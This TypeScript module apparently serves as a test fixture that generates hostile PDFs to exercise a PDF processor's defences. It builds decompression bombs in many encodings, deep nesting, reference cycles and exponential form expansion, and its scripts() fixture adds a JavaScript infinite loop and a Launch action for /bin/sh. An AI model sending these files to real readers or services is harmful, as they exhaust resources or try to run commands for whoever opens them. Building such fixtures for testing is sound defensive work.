/** Malicious PDFs. */
import { createCipheriv, randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const MB = 1024 * 1024;

/**
 * A PDF with one page that draws stream 4.
 * @param dictionary of the stream, without its length
 * @param more further complete objects
 */
function drawing(dictionary: string, data: Buffer, more: (string | Buffer)[] = []) {
  return joined([
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>>>endobj\n',
    '5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n',
    ...stream(4, dictionary, data),
    ...more,
    'trailer<</Root 1 0 R>>\n%%EOF\n',
  ]);
}

function stream(number: number, dictionary: string, data: Buffer): (string | Buffer)[] {
  return [`${number} 0 obj<<${dictionary}/Length ${data.length}>>stream\n`, data, '\nendstream endobj\n'];
}

const joined = (parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));

/** Compressed to a thousandth of their size; computed once. */
const folded = new Map<string, Buffer>();

/**
 * @param text repeated
 * @param bytes in total
 */
function fold(text: string, bytes: number) {
  const key = `${text} ${bytes}`;
  const known = folded.get(key) ?? deflateSync(Buffer.alloc(bytes, text), { level: 9 });
  folded.set(key, known);
  return known;
}

const SHOWN = '(a)Tj ';

/** Sixty million text commands in ten thousand bytes. */
export const twiceDeflated = () =>
  drawing('/Filter[/FlateDecode/FlateDecode]', deflateSync(fold(SHOWN, 360 * MB), { level: 9 }));

/** A gigabyte in one megabyte. */
export const gigabyte = () => drawing('/Filter/FlateDecode', fold(SHOWN, 1024 * MB));

/** The same twice-deflated stream, with its filters in another object and written with escapes. */
export const hiddenFilters = () =>
  drawing('/Filter 9 0 R', deflateSync(fold(SHOWN, 360 * MB), { level: 9 }), [
    '9 0 obj[/Fl#61teDecode/Fl]endobj\n',
  ]);

/** Cut before its checksum: a reader uses what it could decompress. */
export const damagedDeflate = () => {
  const whole = fold(SHOWN, 360 * MB);
  return drawing('/Filter/FlateDecode', Buffer.concat([whole.subarray(0, -6), Buffer.from('broken')]));
};

/** Compressed, then encoded as text. */
export const armoured = (notation: 'ASCII85' | 'ASCIIHex') => {
  const data = deflateSync(fold(SHOWN, 360 * MB), { level: 9 });
  const text = notation === 'ASCIIHex' ? `${data.toString('hex')}>` : `${ascii85(data)}~>`;
  return drawing(`/Filter[/${notation}Decode/FlateDecode/FlateDecode]`, Buffer.from(text));
};

function ascii85(data: Buffer) {
  const padded = Buffer.concat([data, Buffer.alloc((4 - (data.length % 4)) % 4)]);
  let text = '';
  for (let at = 0; at < padded.length; at += 4) {
    let value = padded.readUInt32BE(at);
    let group = '';
    for (let place = 0; place < 5; place += 1) {
      group = String.fromCharCode(33 + (value % 85)) + group;
      value = Math.floor(value / 85);
    }
    text += group;
  }
  return text;
}

/** Each pair of bytes expands to 128: a compression that nothing decompresses before the file is read. */
export const runLengths = () =>
  drawing('/Filter[/RunLengthDecode/RunLengthDecode]', Buffer.alloc(4 * MB, Buffer.from([129, 129])));

/** LZW without a reset grows its strings by one byte a code; a full table is used until the end. */
export const lzw = () => {
  const bits = [];
  for (let code = 258, width = 9; bits.length < 12_000_000 / 12; code += 1) {
    bits.push([Math.min(code, 4095), width]);
    width = code < 510 ? 9 : code < 1022 ? 10 : code < 2046 ? 11 : 12;
  }
  bits.unshift([256, 9], [65, 9]);
  return drawing('/Filter/LZWDecode', packed(bits));
};

/** @param codes each with its width in bits */
function packed(codes: number[][]) {
  const bytes = Buffer.alloc(Math.ceil(codes.reduce((sum, [, width = 0]) => sum + width, 0) / 8) + 1);
  let at = 0;
  for (const [code = 0, width = 0] of codes) {
    for (let bit = width - 1; bit >= 0; bit -= 1, at += 1) {
      if ((code >> bit) & 1) bytes[at >> 3] = (bytes[at >> 3] ?? 0) | (0x80 >> (at & 7));
    }
  }
  return bytes;
}

/** An object stream that decompresses to 300 MB of objects. */
export const objectStream = () =>
  drawing('/Filter/FlateDecode', deflateSync(Buffer.from('BT (hola) Tj ET')), [
    ...stream(7, '/Type/ObjStm/N 1000000/First 10/Filter/FlateDecode', fold('1 0 ', 300 * MB)),
  ]);

/** A cross-reference stream that decompresses to 300 MB. */
export const tableStream = () =>
  joined([
    '%PDF-1.7\n',
    ...stream(
      1,
      '/Type/XRef/Size 100000000/W[1 1 1]/Root 2 0 R/Filter/FlateDecode',
      fold('\u0001\u0000\u0000', 300 * MB),
    ),
    'startxref\n9\n%%EOF\n',
  ]);

/** Three hundred streams of 10 MB each, which is allowed for one stream. */
export const manyStreams = () =>
  drawing(
    '/Filter/FlateDecode',
    fold(SHOWN, 10 * MB),
    Array.from({ length: 300 }, (_, n) => stream(n + 10, '/Filter/FlateDecode', fold(SHOWN, 10 * MB))).flat(),
  );

/** Declares its content as an image, whose size nobody adds up. */
export const disguisedAsPicture = () =>
  drawing('/Subtype/Image/Width 1/Height 1/Filter/FlateDecode', fold(SHOWN, 512 * MB));

/** Lists nested two million deep. */
export const deepNesting = () =>
  drawing('', Buffer.from(`${'['.repeat(1_000_000)}${']'.repeat(1_000_000)} TJ`), [
    `8 0 obj${'<</A'.repeat(300_000)} 1${'>>'.repeat(300_000)}endobj\n`,
  ]);

/** Many pages, each its own object. */
export const manyPages = () => {
  const kids = Array.from({ length: 100_000 }, (_, n) => `${n + 3} 0 R`).join(' ');
  const pages = Array.from({ length: 100_000 }, (_, n) => `${n + 3} 0 obj<</Parent 2 0 R>>endobj\n`).join('');
  return Buffer.from(
    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 100000/Kids[${kids}]>>endobj\n${pages}trailer<</Root 1 0 R>>\n%%EOF\n`,
  );
};

/** Page lists that contain themselves, a form that draws itself, a length that refers to itself. */
export const cycles = () =>
  joined([
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 9999/Kids[2 0 R 3 0 R 2 0 R]/Parent 2 0 R>>endobj\n',
    '3 0 obj<</Type/Page/Parent 3 0 R/Contents[4 0 R 4 0 R]/Resources<</XObject<</X 6 0 R>>>>>>endobj\n',
    '4 0 obj<</Length 4 0 R>>stream\n/X Do /X Do\nendstream endobj\n',
    '6 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X 6 0 R>>>>/Length 14>>stream\n/X Do /X Do   \nendstream endobj\n',
    'trailer<</Root 1 0 R/Prev 9/Size 9>>\nstartxref\n9\n%%EOF\n',
  ]);

/** A form that draws the next one ten times, over ten levels: ten thousand million words. */
export const billionForms = () => {
  const level = (n: number) => {
    const content = n === 9 ? 'BT /F1 1 Tf (hahaha) Tj ET' : `/X Do `.repeat(10);
    return `${n + 10} 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>/XObject<</X ${n + 11} 0 R>>>>/Length ${content.length}>>stream\n${content}\nendstream endobj\n`;
  };
  return drawing('', Buffer.from('/X Do'), [
    ...Array.from({ length: 10 }, (_, n) => level(n)),
    '6 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 10 0 R>>>>/Length 5>>stream\n/X Do\nendstream endobj\n',
  ]);
};

/** A font whose character map has 30 MB of ranges and programs. */
export const font = () =>
  joined([
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n',
    '3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n',
    ...stream(4, '', Buffer.from('BT /F1 12 Tf <00410042> Tj ET')),
    '5 0 obj<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 7 0 R/DescendantFonts[6 0 R]/ToUnicode 7 0 R>>endobj\n',
    '6 0 obj<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>/FontDescriptor 8 0 R>>endobj\n',
    ...stream(
      7,
      '/Type/CMap/CMapName/X/Filter/FlateDecode',
      deflateSync(
        Buffer.from(
          '1 begincodespacerange<0000><ffff>endcodespacerange 100 beginbfrange '.concat(
            '<0000> <ffff> <0000> '.repeat(1_500_000),
          ),
        ),
      ),
    ),
    '8 0 obj<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 9 0 R>>endobj\n',
    ...stream(
      9,
      '/Filter/FlateDecode',
      deflateSync(Buffer.concat([Buffer.from('00010000ffff', 'hex'), Buffer.alloc(9 * MB, 255)])),
    ),
    'trailer<</Root 1 0 R>>\n%%EOF\n',
  ]);

/** Scripts that run when the file is opened; the product does not run them. */
export const scripts = () =>
  joined([
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(while(true){})>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>>>endobj\n',
    '2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n',
    ...stream(4, '', Buffer.from('BT (hola) Tj ET')),
    'trailer<</Root 1 0 R>>\n%%EOF\n',
  ]);

/** A bomb encrypted with an empty password: its size is unknown before it is decrypted. */
export const encryptedBomb = () => {
  const key = randomBytes(16);
  const cipher = createCipheriv('aes-128-cbc', key, Buffer.alloc(16));
  const data = Buffer.concat([Buffer.alloc(16), cipher.update(fold(SHOWN, 512 * MB)), cipher.final()]);
  return drawing('/Filter/FlateDecode', data, [
    `7 0 obj<</Filter/Standard/V 4/R 4/Length 128/P -4/CF<</StdCF<</CFM/AESV2/Length 16>>>>/StmF/StdCF/StrF/StdCF/O<${'00'.repeat(32)}>/U<${'00'.repeat(32)}>>>endobj\n`,
  ]).subarray(0);
};

/** A fax-encoded image with a declared size of four thousand million pixels. */
export const fax = () =>
  drawing(
    '',
    Buffer.from(
      '/X Do BI /W 60000 /H 60000 /BPC 1 /CS /G /F /CCF /DP <</K -1 /Columns 60000 /Rows 60000>> ID \u0000\u0001 EI',
    ),
    [
      ...stream(
        6,
        '/Type/XObject/Subtype/Image/Width 65000/Height 65000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode',
        Buffer.from(
          '000000003000010000001300 00fde800 00fde8000000000000000000000000'.replace(/ /g, ''),
          'hex',
        ),
      ),
    ],
  );

/** Five megabytes of uncompressed words. */
export const endlessText = () =>
  drawing(
    '',
    Buffer.concat([Buffer.from('BT /F1 12 Tf '), Buffer.alloc(4.5 * MB, SHOWN), Buffer.from(' ET')]),
  );

/** No pages. */
export const noPages = () =>
  Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );
